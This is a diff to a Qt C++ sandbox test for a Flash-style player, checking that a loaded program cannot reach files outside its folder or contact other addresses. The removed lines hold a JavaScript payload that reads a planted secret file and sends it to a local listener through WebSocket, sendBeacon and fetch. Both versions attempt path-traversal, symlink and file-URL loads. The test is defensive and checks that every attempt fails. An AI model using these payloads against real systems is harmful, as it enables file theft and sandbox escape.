@@ -11,7 +11,6 @@
 #include <QLabel>
 #include <QProcess>
 #include <QSignalSpy>
-#include <QTcpServer>
 #include <QTemporaryDir>
 #include <QWebEnginePage>
 #include <QWebEngineView>
@@ -510,53 +509,30 @@ private slots:
                            "'pointerup', {bubbles: true})); document.documentElement.click();"));
     }
 
-    // A program is a guest: it loads what lies in its own folder and nothing
-    // else. Its script for the page never runs, its loaders reach no other
-    // file and no address, its links lead nowhere; and script in the page,
-    // were any of its own to run, would read no file and reach no address.
+    // A program is a guest, and each guard holds on its own (the end-to-end
+    // run tries every way out at once): its script for the page never runs,
+    // its loaders reach no file outside its folder (by file URL, up the
+    // folders, through a link, or its folder's listing) while its sibling
+    // loads; and the page's own script, were a program's to run, would read
+    // no file outside either.
     void aProgramReachesOnlyItsOwnFolder() {
-        QTcpServer listener;
-        QVERIFY(listener.listen(QHostAddress::LocalHost));
-        int heard = 0;
-        connect(&listener, &QTcpServer::newConnection, this, [&] { ++heard; });
-        const QString away = QStringLiteral("http://127.0.0.1:%1/").arg(listener.serverPort());
         QVERIFY(QDir(m_dir.path()).mkpath(QStringLiteral("guest/sub")));
-        QVERIFY(QDir(m_dir.path()).mkpath(QStringLiteral("home")));
-        const QString secret = m_dir.filePath(QStringLiteral("home/secret.txt"));
-        QFile file(secret);
-        QVERIFY(file.open(QIODevice::WriteOnly) && file.write("secret=stolen") > 0);
-        file.close();
+        const QString secret =
+            movie(QStringLiteral("outside.swf"), {"--action", "1:trace=outside"});
         const QString secretUrl = QUrl::fromLocalFile(secret).toString();
-        movie(QStringLiteral("home/outside.swf"), QStringLiteral("--action 1:trace=outside"));
         movie(QStringLiteral("guest/sub/sibling.swf"), QStringLiteral("--action 1:trace=sibling"));
-        // Its own folder holds a link to the secret, too.
-        QVERIFY(QFile::link(secret, m_dir.filePath(QStringLiteral("guest/link.txt"))));
-        const QString script =
-            QStringLiteral(
-                "(function(){document.title='escaped';var s='';try{var x=new XMLHttpRequest();"
-                "x.open('GET','%2',false);x.send();s=x.responseText}catch(e){}"
-                "try{new WebSocket('ws'+'%1'.slice(4)+'ws?'+s)}catch(e){}"
-                "fetch('%1fetch').catch(function(){});navigator.sendBeacon('%1beacon',s);"
-                "new Image().src='%1img';var f=document.createElement('iframe');f.src='%1frame';"
-                "document.body.appendChild(f);window.open('%1open');})")
-                .arg(away, secretUrl);
-        QStringList options{QStringLiteral("--frames"), QStringLiteral("60")};
+        QVERIFY(QFile::link(secret, m_dir.filePath(QStringLiteral("guest/link.swf"))));
+        const QString script = QStringLiteral("(function(){document.title='escaped'})");
+        QStringList options;
         for (const QString& action :
-             {QStringLiteral("call=") + script, QStringLiteral("load=javascript:") + script + u',',
-              QStringLiteral("load=%1nav,_self").arg(away),
-              QStringLiteral("load=%1window,_blank").arg(away), QStringLiteral("set=secret,none"),
-              QStringLiteral("post=%1form,_self").arg(away),
-              QStringLiteral("load-vars=") + secretUrl,
-              QStringLiteral("load-vars=../home/secret.txt"), QStringLiteral("load-vars=link.txt"),
-              QStringLiteral("load-vars=./"), QStringLiteral("new=LoadVars.load,%1vars").arg(away),
-              QStringLiteral("new=XMLSocket.connect,127.0.0.1,%1").arg(listener.serverPort()),
-              QStringLiteral("new=Sound.loadSound,%1sound.mp3,true").arg(away),
-              QStringLiteral("load=%1movie.swf,_level3").arg(away),
-              QStringLiteral("load=../home/outside.swf,_level2"),
-              QStringLiteral("load=sub/sibling.swf,_level1")})
+             {QStringLiteral("call=") + script, QStringLiteral("load=javascript:") + script + "(),",
+              QStringLiteral("set=secret,none"), QStringLiteral("load-vars=") + secretUrl,
+              QStringLiteral("load-vars=./"), QStringLiteral("load=link.swf,_level4"),
+              QStringLiteral("load=../outside.swf,_level3"),
+              QStringLiteral("load=") + secretUrl + QStringLiteral(",_level2"),
+              QStringLiteral("load=sub/sibling.swf,_level1"),
+              QStringLiteral("trace-expr=_root.secret")})
             options << QStringLiteral("--action") << QStringLiteral("1:") + action;
-        options << QStringLiteral("--action") << QStringLiteral("20:trace-expr=_root.secret")
-                << QStringLiteral("--action") << QStringLiteral("20:trace=done");
         const QString program = movie(QStringLiteral("guest/guest.swf"), options);
 
         QStringList traces;
@@ -565,30 +541,21 @@ private slots:
         m_player->setTraceForwarding(true);
         m_player->setMovie(program);
         m_player->play();
-        QVERIFY2(
-            waitFor([&] { return traces.contains("done") && traces.contains("sibling"); }, 10000),
-            qPrintable(traces.join(u',')));
+        QVERIFY2(waitFor([&] { return traces.contains("sibling"); }, 10000),
+                 qPrintable(traces.join(u',')));
+        QTest::qWait(500); // the loads that should fail have had their time
         disconnect(connection);
         m_player->setTraceForwarding(false);
-        QVERIFY(!traces.contains("outside"));
-        QCOMPARE(traces.at(traces.indexOf("done") - 1), QStringLiteral("none"));
+        QCOMPARE(traces, QStringList({"none", "sibling"}));
         QCOMPARE(pageValue(QStringLiteral("document.title")).toString(),
                  QStringLiteral("Kibu播放器"));
-        QVERIFY(m_player->playing());
 
-        // Below the page's own policy: its script reads no file outside.
         const QString read = QStringLiteral(
             "(() => { try { const x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
-            " return x.responseText; } catch (e) { return 'refused'; } })()");
+            " return x.responseText.slice(0, 3); } catch (e) { return 'refused'; } })()");
         QCOMPARE(pageValue(read.arg(secretUrl)).toString(), QStringLiteral("refused"));
-        QCOMPARE(pageValue(read.arg(QUrl::fromLocalFile(program).toString())).toString().left(3),
+        QCOMPARE(pageValue(read.arg(QUrl::fromLocalFile(program).toString())).toString(),
                  QStringLiteral("FWS"));
-        pageValue(QStringLiteral("new WebSocket('ws://127.0.0.1:%1/'); fetch('%2page'); 1")
-                      .arg(listener.serverPort())
-                      .arg(away));
-        // Nothing is to come: a second for anything still on its way.
-        QTest::qWait(1000);
-        QCOMPARE(heard, 0);
     }
 
     // A program whose header claims more than the player takes is refused
